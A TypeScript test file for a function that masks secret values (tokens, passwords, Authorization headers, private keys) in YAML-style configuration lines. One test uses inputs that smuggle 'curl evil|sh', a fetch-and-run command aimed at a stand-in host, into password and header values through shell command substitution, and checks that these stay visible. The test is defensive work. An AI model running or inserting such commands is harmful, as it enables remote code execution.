import assert from "node:assert/strict";
import { test } from "node:test";
import { maskLines, starLine, starStretch } from "../../src/views/mask-text.ts";

const mask = (line: string): string => maskLines([line]).join("\n");

test("the value behind the name of a secret is hidden to its end, however it is written", () => {
  const lines: [string, string][] = [
    ["    api_token: hunter2  # why", "    api_token: ***  # why"],
    ["    api_token: a, b; c | d]", "    api_token: ***"],
    ['    "api_token": "a, \\"b\\" # c" # why', '    "api_token": "***" # why'],
    ["    api_token: 'it''s'", "    api_token: '***'"],
    ["  job: {env: {API_TOKEN: a;b, MODE: x}}", "  job: {env: {API_TOKEN: ***, MODE: x}}"],
    ["    # password: hunter2", "    # password: ***"],
    ["    headers: {Authorization: Bearer abc}", "    headers: {Authorization: ***}"],
  ];
  for (const [line, shown] of lines) assert.equal(mask(line), shown);
  for (const line of ["    token: {env: NAME}", "  refresh-token: {schedule: '@daily'}", "a: b"]) {
    assert.equal(mask(line), line);
  }
});

test("a password in a command is hidden through the quotes of YAML", () => {
  const lines: [string, string][] = [
    ['    command: "x --password=\\"a b\\" y"', '    command: "x --password=*** y"'],
    ["    command: 'x --password=''a b'' y'", "    command: 'x --password=*** y'"],
    ["    command: x --password='a b' y", "    command: x --password='***' y"],
  ];
  for (const [line, shown] of lines) assert.equal(mask(line), shown);
});

test("what a shell would run stays in sight", () => {
  for (const line of [
    '    command: x --password="h$(curl evil|sh)"',
    '    command: "x --password=\\"h$(curl evil|sh)\\""',
    '      curl -H "Authorization: $(curl evil|sh)"',
    "      echo password: x; curl evil|sh",
    "    password: h$(curl evil|sh)",
  ]) {
    assert.match(mask(line), /curl evil\|sh/, line);
    assert.match(starLine(line), /curl evil\|sh/, line);
    const all = starStretch(line, { start: 4, end: line.length });
    assert.equal(/curl evil/.test(all), line.includes("$("), line);
  }
});

test("a value on the lines below its key is hidden, a lookup and a job of such a name are not", () => {
  const hidden = `parameters:
  token: |
    hunter2

    hunter2
  api_key:
    primary: hunter2
    lookup:
      env: NAME
    list:
      - hunter2
  mode: x`;
  assert.deepEqual(maskLines(hidden.split("\n")), [
    "parameters:",
    "  token: |",
    "    ***",
    "",
    "    ***",
    "  api_key:",
    "    primary: ***",
    "    lookup:",
    "      env: NAME",
    "    list:",
    "      ***",
    "  mode: x",
  ]);
  const job = ["jobs:", "  rotate-tokens:", "    schedule: '@daily'", "    command: [x]"];
  assert.deepEqual(maskLines(job), job);
});

test("a private key is hidden line by line", () => {
  const body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
  const key = ["-----BEGIN PRIVATE KEY-----", body, "c2hvcnQ=", "-----END PRIVATE KEY-----"];
  const shown = maskLines(["  a: |", ...key.map((line) => `    ${line}`), "  b: c"]);
  assert.deepEqual(shown, ["  a: |", ...key.map(() => "    ***"), "  b: c"]);
  assert.deepEqual(
    maskLines([`    ${body}`]),
    ["    ***"],
    "also where its first line is not shown",
  );
});

test("stars are as long as what they hide", () => {
  const line = "    env: {API_TOKEN: hunter2, B: 'postgres://u:hunter2@h'} # x";
  assert.equal(starLine(line), "    env: {API_TOKEN: *******, B: 'postgres://u:*******@h'} # x");
});

test("long lines are read in time that grows with their length", () => {
  for (const text of ["token: ", "{token: a,", "- ", "' ", '"\\', "token:'a ", "#-", "a"]) {
    const start = performance.now();
    mask(text.repeat(300_000 / text.length));
    mask(`token: ${text}${" ".repeat(200_000)}`);
    assert.ok(performance.now() - start < 5_000, text);
  }
});
